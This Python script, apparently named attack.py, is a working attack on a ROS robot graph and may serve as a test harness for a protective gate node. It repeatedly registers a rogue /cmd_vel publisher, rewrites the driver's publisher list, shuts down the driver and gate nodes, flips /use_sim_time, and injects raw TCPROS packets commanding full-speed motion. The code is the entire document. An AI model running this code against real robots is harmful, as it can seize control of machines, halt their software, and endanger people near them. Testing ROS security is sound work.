"""Tries what anybody who reaches the nodes of a ROS graph may try, as often as its last argument says; prints `tries reached`
where reached counts the tries that were answered, and then stays.

attack.py MASTER DRIVER GATE TRIES"""
import itertools
import socket
import struct
import sys
import time
from urllib.parse import urlparse
from xmlrpc.client import Fault, ServerProxy, Transport

MASTER, DRIVER, GATE, TRIES = sys.argv[1:]
TOPIC, TYPE = "/cmd_vel", "geometry_msgs/Twist"
ME = "http://127.0.0.1:1/"


class Quick(Transport):
    def make_connection(self, host):
        connection = super().make_connection(host)
        connection.timeout = 5
        return connection


master, driver, gate = (ServerProxy(uri, transport=Quick()) for uri in (MASTER, DRIVER, GATE))


def tcpros(uri):
    """A publisher that connects to a subscriber, which ROS does not even foresee: a header and a message of full speed."""
    at = urlparse(uri)
    with socket.create_connection((at.hostname, at.port), timeout=5) as stream:
        fields = [b"callerid=/intruder", b"topic=/cmd_vel", b"type=geometry_msgs/Twist", b"md5sum=*"]
        header = b"".join(struct.pack("<I", len(field)) + field for field in fields)
        stream.sendall(struct.pack("<I", len(header)) + header)
        stream.sendall(struct.pack("<I", 48) + struct.pack("<6d", 9, 0, 0, 0, 0, 0))


TRICKS = [
    lambda: master.registerPublisher("/intruder", TOPIC, TYPE, ME),
    lambda: driver.publisherUpdate("/master", TOPIC, [ME]),
    lambda: driver.publisherUpdate("/master", TOPIC, []),
    lambda: driver.shutdown("/master", "bye"),
    lambda: gate.shutdown("/master", "bye"),
    lambda: master.registerSubscriber("/base_driver", TOPIC, TYPE, ME),
    lambda: master.setParam("/intruder", "/use_sim_time", True),
    lambda: driver.paramUpdate("/master", "/use_sim_time/", True),
    lambda: gate.requestTopic("/intruder", TOPIC, [["TCPROS"]]),
    lambda: tcpros(DRIVER),
    lambda: tcpros(GATE),
    lambda: master.unregisterPublisher("/intruder", TOPIC, GATE),
    lambda: master.shutdown("/intruder", "bye"),
]

reached = 0
for trick in itertools.islice(itertools.cycle(TRICKS), int(TRIES)):
    try:
        trick()
        reached += 1
    except Fault:
        reached += 1
    except OSError:
        pass
print(TRIES, reached, flush=True)
time.sleep(1000)
